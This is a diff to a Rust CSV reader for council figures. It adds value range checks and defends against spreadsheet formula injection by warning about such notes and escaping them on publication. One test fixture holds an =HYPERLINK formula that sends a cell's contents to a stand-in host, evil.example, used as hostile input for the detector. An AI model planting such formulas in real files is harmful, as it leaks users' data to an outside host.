@@ -8,7 +8,7 @@
 
 use std::path::Path;
 
-use crate::error::{Diagnostic, Location};
+use crate::error::{Diagnostic, Lines, Location};
 use crate::source::dates::{parse_dated_text, Dated};
 
 /// One figure of a measure.
@@ -25,8 +25,12 @@ pub struct Figure {
 /// The columns a figures file has, in any order: `date` and `value` are needed.
 const COLUMNS: [&str; 3] = ["date", "value", "note"];
 
-/// Reads a figures file (`path` is how it is named in messages), or every problem it has.
-pub fn read_csv(path: &Path, text: &str) -> Result<Vec<Figure>, Vec<Diagnostic>> {
+/// Reads a figures file (`path` is how it is named in messages): its figures and warnings, or
+/// every problem it has.
+pub fn read_csv(
+    path: &Path,
+    text: &str,
+) -> Result<(Vec<Figure>, Vec<Diagnostic>), Vec<Diagnostic>> {
     let mut errors = Vec::new();
     let mut reader = csv::ReaderBuilder::new()
         .flexible(true)
@@ -34,7 +38,7 @@ pub fn read_csv(path: &Path, text: &str) -> Result<Vec<Figure>, Vec<Diagnostic>>
         .from_reader(text.as_bytes());
     let headers: Vec<String> = match reader.headers() {
         Ok(h) => h.iter().map(|c| c.trim().to_lowercase()).collect(),
-        Err(e) => return Err(vec![csv_error(path, text, &e)]),
+        Err(e) => return Err(vec![csv_error(path, &Lines::new(text), &e)]),
     };
     let column = |name: &str| headers.iter().position(|h| h == name);
     for (i, name) in headers.iter().enumerate() {
@@ -65,12 +69,13 @@ pub fn read_csv(path: &Path, text: &str) -> Result<Vec<Figure>, Vec<Diagnostic>>
         return Err(errors);
     };
     let note_at = column("note");
+    let lines = Lines::new(text);
     let mut figures = Vec::new();
     for record in reader.records() {
         let record = match record {
             Ok(r) => r,
             Err(e) => {
-                errors.push(csv_error(path, text, &e));
+                errors.push(csv_error(path, &lines, &e));
                 continue;
             }
         };
@@ -78,7 +83,7 @@ pub fn read_csv(path: &Path, text: &str) -> Result<Vec<Figure>, Vec<Diagnostic>>
             continue;
         }
         let start = record.position().map_or(0, |p| p.byte() as usize);
-        let row = Location::at(text, start);
+        let row = lines.at(start);
         let cell = |at: usize| record.get(at).unwrap_or("");
         let located = |message: String, hint: &str, col: usize| {
             let mut d = Diagnostic::error(
@@ -95,18 +100,17 @@ pub fn read_csv(path: &Path, text: &str) -> Result<Vec<Figure>, Vec<Diagnostic>>
             d
         };
         let date = parse_dated_text(cell(date_at)).map_err(|(m, h)| located(m, &h, date_at));
-        let value = parse_number(cell(value_at)).ok_or_else(|| {
-            let written = cell(value_at);
-            let message = match written {
-                "" => "there is no figure".to_string(),
-                w => format!("`{w}` is not a number"),
-            };
-            located(
-                message,
-                "write the figure alone, e.g. 41.5: the unit is the measure's `unit`",
-                value_at,
-            )
-        });
+        let value = parse_number(cell(value_at))
+            .ok_or_else(|| {
+                let message = match cell(value_at) {
+                    "" => "there is no figure".to_string(),
+                    w => format!("`{w}` is not a number"),
+                };
+                let hint = "write the figure alone, e.g. 41.5: the unit is the measure's `unit`";
+                (message, hint.to_string())
+            })
+            .and_then(check_figure)
+            .map_err(|(m, h)| located(m, &h, value_at));
         match (date, value) {
             (Ok(date), Ok(value)) => figures.push((
                 Figure {
@@ -128,20 +132,31 @@ pub fn read_csv(path: &Path, text: &str) -> Result<Vec<Figure>, Vec<Diagnostic>>
                 .hint("add a row for each figure under the header, e.g. 2024-03,41.5"),
         );
     }
-    let figures = sorted(path, figures, &mut errors);
+    let mut warnings = Vec::new();
+    let figures = sorted(path, figures, &mut errors, &mut warnings);
     match errors.is_empty() {
-        true => Ok(figures),
+        true => Ok((figures, warnings)),
         false => Err(errors),
     }
 }
 
 /// The figures sorted by date (a file may list them in any order); a second figure for one date is
-/// an error at its row.
+/// an error at its row, a note a spreadsheet would run as a formula a warning.
 pub fn sorted(
     path: &Path,
     mut figures: Vec<(Figure, Location)>,
     errors: &mut Vec<Diagnostic>,
+    warnings: &mut Vec<Diagnostic>,
 ) -> Vec<Figure> {
+    for (figure, location) in &figures {
+        if figure.note.as_deref().is_some_and(formula_like) {
+            warnings.push(
+                Diagnostic::warning(path, "this note starts like a spreadsheet formula (with =, +, -, @ or a tab), which a spreadsheet opening the published figures could run")
+                    .at(location.clone())
+                    .hint("the published file puts a ' before it so that it shows as text; start the note with a word if that is not what you meant"),
+            );
+        }
+    }
     figures.sort_by_key(|f| (f.0.date.first, f.1.line));
     // `2024-03` and `2024-03-01` are one place on the chart: one of them is a mistake.
     for pair in figures.windows(2) {
@@ -160,6 +175,46 @@ pub fn sorted(
         }
     }
     figures.into_iter().map(|(f, _)| f).collect()
+}
+
+/// The largest figure or target, either way from zero, that a chart can draw and a page can
+/// show: far beyond any count a council keeps (a budget in pence is under 10^13), and far from
+/// where floating point loses whole numbers (2^53, about 9 x 10^15).
+pub const LARGEST_FIGURE: f64 = 1e15;
+
+/// The one rule every figure and target passes: a finite number no larger than
+/// [`LARGEST_FIGURE`] either way. Gives the message and hint when it is not.
+pub fn check_figure(value: f64) -> Result<f64, (String, String)> {
+    if !value.is_finite() {
+        return Err((
+            "this is not a number".into(),
+            "write the figure, e.g. 41.5".into(),
+        ));
+    }
+    if value.abs() > LARGEST_FIGURE {
+        return Err((
+            format!("{value:e} is too large a figure to show or chart"),
+            "a figure can be at most 1,000,000,000,000,000 either way from zero: check for a typing mistake, or count in a larger unit (thousands, millions)".into(),
+        ));
+    }
+    Ok(value)
+}
+
+/// Whether a cell's text would be run as a formula by a spreadsheet that opens it: it starts
+/// with `=`, `+`, `-` (unless it is a number), `@`, a tab or a carriage return (OWASP's advice
+/// on CSV injection). The published figures put a `'` before such a cell ([`as_cell`]).
+pub fn formula_like(text: &str) -> bool {
+    let number = text.parse::<f64>().is_ok();
+    text.starts_with(['=', '+', '@', '\t', '\r']) || (text.starts_with('-') && !number)
+}
+
+/// `text` as a cell of a published CSV file: as it is, or after a `'` if a spreadsheet would run
+/// it as a formula.
+pub fn as_cell(text: &str) -> String {
+    match formula_like(text) {
+        true => format!("'{text}"),
+        false => text.to_string(),
+    }
 }
 
 /// A figure as a spreadsheet writes it: `41.5`, `-3`, `1,000`, `1,234.5`.
@@ -185,10 +240,8 @@ fn parse_number(text: &str) -> Option<f64> {
     (number.is_finite() && digits).then_some(number)
 }
 
-fn csv_error(path: &Path, text: &str, error: &csv::Error) -> Diagnostic {
-    let location = error
-        .position()
-        .map(|p| Location::at(text, p.byte() as usize));
+fn csv_error(path: &Path, lines: &Lines, error: &csv::Error) -> Diagnostic {
+    let location = error.position().map(|p| lines.at(p.byte() as usize));
     let mut d = Diagnostic::error(path, format!("this CSV file cannot be read: {error}"))
         .hint("export it again from the spreadsheet as CSV (comma separated, UTF-8)");
     d.location = location;
@@ -203,7 +256,8 @@ mod tests {
     fn a_spreadsheet_export_is_read_and_sorted() {
         let text =
             "Date,Value,Note\n2024-05,\"1,041.5\",provisional\n2024-03-31,41.5,\n\n2024-04,-3,\n";
-        let f = read_csv(Path::new("content/measures/m.csv"), text).unwrap();
+        let (f, warnings) = read_csv(Path::new("content/measures/m.csv"), text).unwrap();
+        assert!(warnings.is_empty());
         let dates: Vec<String> = f.iter().map(|f| f.date.iso()).collect();
         assert_eq!(dates, ["2024-03-31", "2024-04", "2024-05"]);
         assert_eq!(f[2].value, 1041.5);
@@ -228,6 +282,49 @@ mod tests {
             ]
         );
         assert!(errors[0].hint.as_deref().unwrap().contains("2024-03-31"));
+    }
+
+    #[test]
+    fn regression_a_figure_too_large_to_chart_is_an_error_at_its_cell() {
+        let huge = "9".repeat(308);
+        let text = format!(
+            "date,value\n2024-03,1\n2024-04,{huge}\n2024-05,-1000000000000001\n2024-06,{huge}9\n"
+        );
+        let errors = read_csv(Path::new("m.csv"), &text).unwrap_err();
+        let found: Vec<(usize, bool)> = errors
+            .iter()
+            .map(|e| {
+                let line = e.location.as_ref().unwrap().line;
+                (line, e.message.contains("column 2 (value)"))
+            })
+            .collect();
+        assert_eq!(found, [(3, true), (4, true), (5, true)]);
+        assert!(
+            errors[0].message.contains("too large"),
+            "{}",
+            errors[0].message
+        );
+        assert_eq!(check_figure(1e15), Ok(1e15));
+    }
+
+    #[test]
+    fn regression_a_note_that_is_a_formula_is_warned_of_and_published_as_text() {
+        let text = "date,value,note\n2024-03,1,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"\n2024-04,2,@SUM(A1)\n2024-05,3,+1+1\n2024-06,4,-12\n2024-07,5,- see above\n2024-08,6,fine\n";
+        let (figures, warnings) = read_csv(Path::new("m.csv"), text).unwrap();
+        let lines: Vec<usize> = warnings
+            .iter()
+            .map(|w| w.location.as_ref().unwrap().line)
+            .collect();
+        assert_eq!(lines, [2, 3, 4, 6]);
+        let cells: Vec<String> = figures
+            .iter()
+            .map(|f| as_cell(f.note.as_deref().unwrap()))
+            .collect();
+        assert_eq!(cells[1], "'@SUM(A1)");
+        assert_eq!(cells[2], "'+1+1");
+        assert_eq!(cells[3], "-12");
+        assert_eq!(cells[5], "fine");
+        assert!(cells[0].starts_with("'=HYPERLINK("));
     }
 
     #[test]
